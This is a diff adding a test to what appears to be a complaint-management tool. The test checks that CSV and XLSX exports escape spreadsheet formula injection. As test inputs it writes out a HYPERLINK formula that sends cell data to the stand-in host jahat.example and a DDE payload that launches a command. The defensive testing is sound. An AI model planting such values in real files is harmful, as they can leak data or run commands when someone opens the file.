@@ -262,3 +262,28 @@ def test_another_post_is_refused(filled: list[str], tmp_path: Path) -> None:
     same = posko(*filled, "export", "--format", "csv", "--out", str(tmp_path / "e.zip"),
                  "--post", "mrk")  # fmt: skip
     assert same.returncode == 0, same.stderr
+
+
+def test_a_formula_typed_into_a_report_stays_text_in_every_file(
+    desk: list[str],  # noqa: F811 (the fixture)
+    tmp_path: Path,
+) -> None:
+    """CSV injection: a citizen's text that a spreadsheet would run when the coordinator
+    opens the export (a link that sends the sheet's data away, a command)."""
+    attack = '=HYPERLINK("http://jahat.example/?d="&A1,"Klik")'
+    store = Store.open(Profile(Path(desk[1])))
+    _complaint(store, datetime(2026, 11, 30, 10, tzinfo=WIB), title="+cmd|' /C calc'!A0",
+               description=attack, location="@SUM(1+1)", reporter_name="-2+3",
+               phone="0812-3456-7890")  # fmt: skip
+    store.close()
+    zipped = _export(desk, tmp_path / "e.zip", "csv", "--with-contacts")
+    with zipfile.ZipFile(zipped) as archive:
+        (row,) = csv.DictReader(io.StringIO(archive.read("complaints.csv").decode("utf-8-sig")))
+    assert row["description"] == "'" + attack
+    assert row["title"].startswith("'+") and row["location"] == "'@SUM(1+1)"
+    assert row["reporter_name"] == "'-2+3"
+    assert row["phone"] == "'+6281234567890"  # E.164's "+" would start a formula too
+    book = load_workbook(_export(desk, tmp_path / "e.xlsx", "xlsx", "--with-contacts"))
+    cells = [c for line in book["complaints"].iter_rows(min_row=2) for c in line]
+    texts = [c for c in cells if isinstance(c.value, str) and c.value.startswith("=")]
+    assert texts and all(c.data_type == "s" for c in texts)  # kept as text, not a formula
